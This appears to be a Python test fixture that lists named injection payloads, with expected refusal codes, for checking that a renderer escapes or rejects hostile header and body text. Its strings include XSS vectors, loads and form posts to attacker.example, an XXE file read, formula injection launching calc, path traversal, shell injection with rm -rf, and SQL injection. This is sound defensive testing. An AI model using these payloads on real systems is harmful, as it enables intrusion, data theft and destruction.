"""Attacks as texts, by kind. The number in each lets a browser say which one ran."""

from __future__ import annotations

from collections.abc import Mapping
from types import MappingProxyType

MARK = "window.hostile=1"
ELSEWHERE = "https://attacker.example/"

# Each alone in a text of a header: refused with a code, or accepted as text.
PAYLOADS: Mapping[str, tuple[str, str]] = MappingProxyType(
    {
        "script": (f"<script>{MARK}</script>", ""),
        "closing script": (f"</script></style></title><script>{MARK}</script>", ""),
        "image": (f"<img src=x onerror={MARK}>", ""),
        "image elsewhere": (f"<img src={ELSEWHERE}p.png>", ""),
        "attribute": (f"\" autofocus onfocus='{MARK}' x=\"", ""),
        "attribute without quotes": (f"x onmouseover={MARK} y=", ""),
        "SVG": (f"<svg onload={MARK}><set onbegin={MARK}>", ""),
        "SVG text": (f"</text></svg><script>{MARK}</script>", ""),
        "style": (f"</style><style>@import '{ELSEWHERE}a.css'", ""),
        "style value": (f"red;background:url({ELSEWHERE}b)", ""),
        "frame": (f"<iframe src={ELSEWHERE}></iframe>", ""),
        "base": (f"<base href={ELSEWHERE}>", ""),
        "refresh": (f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>", ""),
        "form": (f"<form action={ELSEWHERE}><input autofocus>", ""),
        "javascript address": (f"javascript:{MARK}", ""),
        "data address": (f"data:text/html,<script>{MARK}</script>", ""),
        "entities": (f"&lt;script&gt;{MARK}&#60;/script&#62;", ""),
        "CDATA": (f"]]><script>{MARK}</script>", ""),
        "comment": (f"--><script>{MARK}</script><!--", ""),
        "XML entity": ("<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/hostname'>]>&e;", ""),
        "template": ("{{ 7*7 }}{% for x in y %}", "text.template"),
        "template of another kind": ("${7*7} #{7*7} <%= 7*7 %>", ""),
        "format": ("%(name)s {0.__class__} %n%n", ""),
        "Typst": ('#read("/etc/hostname") #eval("1") $x$ @a', ""),
        "formula": ("=HYPERLINK(\"https://attacker.example\")", ""),
        "formula with plus": ("+1+cmd|' /C calc'!A0", ""),
        "formula with at": ("@SUM(1)", ""),
        "calendar line": ("x\\nEND:VEVENT\\nATTACH:https://attacker.example/a", ""),
        "line breaks": ("x\r\nATTENDEE:mailto:a", "value.control"),
        "path": ("../../../etc/passwd", ""),
        "path on Windows": ("..\\..\\windows\\system.ini", ""),
        "no character": ("a\0b", "header.character"),
        "control character": ("a\x1b[2Jb", "header.character"),
        "reversed": ("a\u202ebcd", "text.direction"),
        "invisible": ("a\u2060b", "text.invisible"),
        "lookalike": ("pаypal", ""),
        "a long word": ("W" * 900, ""),
        "too long a word": ("W" * 1001, "text.long"),
        "accents": ("Z\u0321\u0353\u033a\u0308" * 40, ""),
        "shell": ("$(touch /tmp/x) `id` ; rm -rf . | cat", ""),
        "SQL": ("'; DROP TABLE events; --", ""),
    }
)  # fmt: skip
# Texts below a header: what could run is left out, or shown as text.
BODY = "\n\n".join(
    [
        *(text for text, code in PAYLOADS.values() if not code),
        f"[a](javascript:{MARK}) [b](JaVaScRiPt&colon;{MARK}) <javascript:{MARK}>",
        f"[c]: javascript:{MARK}\n\n[c]",
        f'<a href="&#106;avascript:{MARK}">d</a> <a href="java\tscript:{MARK}">e</a>',
        f'<math><mtext><table><mglyph><style><img src=x onerror="{MARK}">',
        f"<details open ontoggle={MARK}> <video src=x onerror={MARK}> <object data={ELSEWHERE}>",
        f"<p style='background:url({ELSEWHERE})'> <link rel=stylesheet href={ELSEWHERE}>",
    ]
)  # fmt: skip
